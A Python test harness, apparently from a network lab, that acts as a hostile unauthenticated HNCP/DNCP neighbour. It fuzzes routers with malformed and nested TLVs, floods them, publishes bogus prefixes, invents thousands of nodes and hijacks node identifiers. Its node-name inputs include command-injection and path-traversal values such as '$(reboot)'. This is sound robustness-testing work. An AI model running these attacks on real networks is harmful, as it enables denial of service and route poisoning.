# SPDX-License-Identifier: ISC
"""An unauthenticated neighbour who does what broke earlier implementations. Runs inside a host node:

    hearth-lab exec HOME HOST -- python3 LAB/hostile.py --link LINK ATTACK [--seconds N]

Each attack is a generator of datagrams, or a peer that publishes bad node data and answers requests for it as a real
one would, so that the bad data gets as far into the victim as it can.
"""

from __future__ import annotations

import argparse
import random
import select
import socket
import struct
import sys
import time
from pathlib import Path
from typing import Callable, Iterator

if __package__ in (None, ""):  # run as a file inside a node
    sys.dont_write_bytecode = True
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from hearthlab import tlv as t  # noqa: E402

GROUP, PORT = "ff02::11", 8231
ME = 0xBADBAD00
LINE_RATE_BURST = 64


class Stranger:
    """A socket on one link, and who has been heard there."""

    def __init__(self, link: str):
        self.index = socket.if_nametoindex(link)
        self.socket = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, self.index)
        self.socket.bind(("::", PORT))
        membership = socket.inet_pton(socket.AF_INET6, GROUP) + struct.pack("@I", self.index)
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, membership)
        self.heard: dict[str, tuple[int, int]] = {}  # link-local address -> (node, endpoint)
        self.sent = 0

    def send(self, datagram: bytes, to: str = GROUP) -> None:
        """One datagram; a full queue is no error, the flood goes on."""
        try:
            self.socket.sendto(datagram, (to, PORT, 0, self.index))
            self.sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.001)

    def send_everywhere(self, datagram: bytes) -> None:
        """To the group and to everybody heard so far."""
        for to in [GROUP, *self.heard]:
            self.send(datagram, to)

    def listen(self, seconds: float) -> Iterator[tuple[str, list[tuple[int, bytes]]]]:
        """What arrives in that time, as (sender, TLVs); remembers senders."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            if not select.select([self.socket], [], [], left)[0]:
                return
            data, sender = self.socket.recvfrom(65536)
            address = sender[0].split("%")[0]
            tlvs = list(t.split(data))
            for kind, value in tlvs:
                if kind == t.NODE_ENDPOINT and len(value) >= 8:
                    self.heard[address] = struct.unpack_from("!II", value)
            yield address, tlvs

    def look_around(self, seconds: float = 3.0) -> None:
        """Ask everybody for their state, and remember who answers."""
        self.send(t.endpoint(ME) + t.tlv(t.NETWORK_STATE, random.randbytes(8)))
        for _ in self.listen(seconds):
            pass


# --- malformed datagrams --------------------------------------------------------------------------------------------


def _in_all_places(item: bytes) -> Iterator[bytes]:
    """A TLV at the top of a datagram, and inside a node's published data."""
    yield item
    yield t.endpoint(ME) + item
    yield t.endpoint(ME) + t.node_state(random.getrandbits(32), 1, item)


def truncated() -> Iterator[bytes]:
    """Each TLV cut at each length: honestly short, and short of what its length field says."""
    for kind, value in t.SAMPLES.items():
        for cut in range(len(value)):
            yield from _in_all_places(t.tlv(kind, value[:cut]))
            yield from _in_all_places(t.tlv(kind, value[:cut], len(value)))
    for size in range(4):
        yield bytes(size)


def overlong() -> Iterator[bytes]:
    """Each TLV with more than belongs into it, and with a length field beyond the datagram."""
    for kind, value in t.SAMPLES.items():
        for extra in (1, 3, 4, 64, 1200, 3000):
            yield from _in_all_places(t.tlv(kind, value + b"\xff" * extra))
        for claimed in (len(value) + 1, 1500, 0x7FFF, 0xFFFF):
            yield from _in_all_places(t.tlv(kind, value, claimed))
    yield t.endpoint(ME) + random.randbytes(60000)


def nested() -> Iterator[bytes]:
    """Each TLV within each other, and containers a thousand deep."""
    for outer, value in t.SAMPLES.items():
        padded = value + bytes(-len(value) % 4)
        for inner, inner_value in t.SAMPLES.items():
            yield from _in_all_places(t.tlv(outer, padded + t.tlv(inner, inner_value)))
    for kind in (t.EXTERNAL_CONNECTION, t.DELEGATED_PREFIX, t.NODE_STATE):
        item = b""
        for _ in range(1000):
            item = t.tlv(kind, t.SAMPLES[kind] + bytes(-len(t.SAMPLES[kind]) % 4) + item)
        yield from _in_all_places(item[:60000])


def bad_values() -> Iterator[bytes]:
    """Well-formed TLVs that say impossible things: what is listed as having broken others."""
    for length in (*range(129, 256, 9), 255):
        yield from _in_all_places(t.tlv(t.EXTERNAL_CONNECTION, t.delegated("2001:db8:dead::/48", length)))
        yield from _in_all_places(t.assigned("2001:db8:dead::/64", length=length))
    for name in (b"a\nb", b"\x00", b"../../etc/x", b"$(reboot)", b"\"'", b"x" * 63, b"\xff" * 63):
        yield from _in_all_places(t.tlv(t.NODE_NAME, t.ADDRESS + bytes([len(name)]) + name))
    for zone in (b"", b"\x00", b"\x3f", b"\xc0\x00", b"\x01\n\x00", b"\x3f" + b"a" * 63, (b"\x01a" * 200) + b"\x00"):
        yield from _in_all_places(t.tlv(t.DNS_DELEGATED_ZONE, t.ADDRESS + b"\x07" + zone))
        yield from _in_all_places(t.tlv(t.DOMAIN_NAME, zone))
    for age in (2**32 - 1, 2**32 - 2**16, 2**31):
        yield t.endpoint(ME) + t.node_state(random.getrandbits(32), 2**32 - 1, t.version(), age)
    yield t.endpoint(ME) + t.node_state(ME, 1, t.version(b""))


def malformed(stranger: Stranger, seconds: float) -> None:
    """All malformed datagrams, to the group and to each router, as often as the time allows (once at least)."""
    deadline = time.monotonic() + seconds
    while True:
        for make in (truncated, overlong, nested, bad_values):
            for datagram in make():
                stranger.send_everywhere(datagram)
        if time.monotonic() > deadline:
            return


def flood(stranger: Stranger, seconds: float) -> None:
    """As many datagrams as this machine can send: half of them nonsense, half of them questions."""
    questions = t.endpoint(ME) + t.tlv(t.REQUEST_NETWORK_STATE) + t.tlv(t.NETWORK_STATE, random.randbytes(8))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for _ in range(LINE_RATE_BURST):
            stranger.send_everywhere(questions)
            stranger.send_everywhere(t.endpoint(random.getrandbits(32)) + random.randbytes(200))


# --- a peer that publishes --------------------------------------------------------------------------------------------


class Peer:
    """Takes part in DNCP just well enough that what it publishes is asked for and believed."""

    def __init__(self, stranger: Stranger, node: int = ME):
        self.stranger = stranger
        self.node = node
        self.nodes: dict[int, tuple[int, bytes]] = {}  # node -> (sequence number, node data)

    def publish(self, *tlvs: bytes, ordered: bool = True) -> None:
        """New data of the peer itself, with a Peer TLV for everybody heard."""
        peers = [t.peer(node, remote, 1) for node, remote in self.stranger.heard.values()]
        sequence = self.nodes.get(self.node, (0, b""))[0] + 1
        items = [t.version(), *peers, *tlvs]
        self.nodes[self.node] = (sequence, t.node_data(*items) if ordered else b"".join(reversed(sorted(items))))

    def state_hash(self) -> bytes:
        """The network state hash of what this peer claims to know (RFC 7787 section 4.1)."""
        states = b"".join(struct.pack("!I", seq) + t.digest(data) for _, (seq, data) in sorted(self.nodes.items()))
        return t.digest(states)

    def announce(self) -> None:
        """The short form of the network state, as Trickle sends it."""
        self.stranger.send(t.endpoint(self.node) + t.tlv(t.NETWORK_STATE, self.state_hash()))

    def answer(self, to: str, kind: int, value: bytes) -> None:
        """Answer a request as section 4.4 says, in datagrams of some 1,200 bytes."""
        if kind == t.REQUEST_NODE_STATE and len(value) >= 4:
            node = struct.unpack_from("!I", value)[0]
            if node in self.nodes:
                self.stranger.send(t.endpoint(self.node) + t.node_state(node, *self.nodes[node]), to)
        if kind == t.REQUEST_NETWORK_STATE:
            states = [t.node_state(node, seq, data, with_data=False) for node, (seq, data) in self.nodes.items()]
            for start in range(0, len(states), 48):
                self.stranger.send(t.endpoint(self.node) + b"".join(states[start:start + 48])
                                   + t.tlv(t.NETWORK_STATE, self.state_hash()), to)

    def live(self, seconds: float) -> None:
        """Take part for that long."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            self.announce()
            for sender, tlvs in self.stranger.listen(0.2):
                for kind, value in tlvs:
                    self.answer(sender, kind, value)

    def push(self) -> None:
        """Send all node data to everybody, asked or not."""
        for node, (sequence, data) in self.nodes.items():
            for to in self.stranger.heard:
                self.stranger.send(t.endpoint(self.node) + t.node_state(node, sequence, data), to)


def published(stranger: Stranger, seconds: float) -> None:
    """Bad data published by a peer in good standing, one piece after another."""
    pool = t.delegated("2001:db8:dead::/48")
    pieces = [(t.tlv(t.EXTERNAL_CONNECTION, pool), t.tlv(t.EXTERNAL_CONNECTION, pool)),  # twice, in two containers
              (t.tlv(t.EXTERNAL_CONNECTION, pool + pool),),  # twice, in one
              (),  # withdrawn
              (t.tlv(t.EXTERNAL_CONNECTION, t.delegated("::/0")), t.assigned("::/0", priority=15)),
              (t.tlv(t.EXTERNAL_CONNECTION, t.delegated("fe80::/10") + t.delegated("ff00::/8")),),
              tuple(t.tlv(kind, value) for kind, value in t.SAMPLES.items()),
              (t.tlv(t.DNS_DELEGATED_ZONE, t.ADDRESS),), (t.tlv(t.NODE_NAME, t.ADDRESS + b"\x03a\nb"),)]
    peer = Peer(stranger)
    for ordered in (True, False):
        for piece in pieces:
            peer.publish(*piece, ordered=ordered)
            peer.push()
            peer.live(seconds / (2 * len(pieces)))
    peer.publish()
    peer.live(1)


def many_nodes(stranger: Stranger, seconds: float, count: int = 20000) -> None:
    """Invented nodes in a tree below the stranger, every one of them a peer of its neighbours in the tree."""
    peer = Peer(stranger)
    names = [ME, *range(ME + 1, ME + count)]
    for place, name in enumerate(names):
        around = [names[(place - 1) // 8]] if place else []
        around += names[8 * place + 1:8 * place + 9]
        others = [t.peer(node, 2, 2) for node in around]
        if place:
            peer.nodes[name] = (1, t.node_data(t.version(), *others))
        else:
            peer.publish(*others)
    deadline = time.monotonic() + seconds
    peer.push()
    peer.live(max(2.0, deadline - time.monotonic()))


def collide(stranger: Stranger, seconds: float) -> None:
    """Claim every router's own node identifier, with newer and newer data."""
    sequence = 1 << 20
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for node, _ in list(stranger.heard.values()):
            sequence += 1
            stranger.send_everywhere(t.endpoint(node) + t.node_state(node, sequence, t.version(b"you")))
        for _ in stranger.listen(0.05):
            pass


ATTACKS: dict[str, Callable[[Stranger, float], None]] = {
    "malformed": malformed, "flood": flood, "published": published, "many-nodes": many_nodes, "collide": collide}


def main() -> int:
    """Run one attack."""
    parser = argparse.ArgumentParser(description="an unauthenticated HNCP neighbour that means harm")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--link", required=True)
    parser.add_argument("--seconds", type=float, default=5)
    arguments = parser.parse_args()
    random.seed(arguments.attack)
    stranger = Stranger(arguments.link)
    stranger.look_around()
    ATTACKS[arguments.attack](stranger, arguments.seconds)
    print(f"{arguments.attack}: {stranger.sent} datagrams sent, {len(stranger.heard)} routers heard")
    return 0


if __name__ == "__main__":
    sys.exit(main())
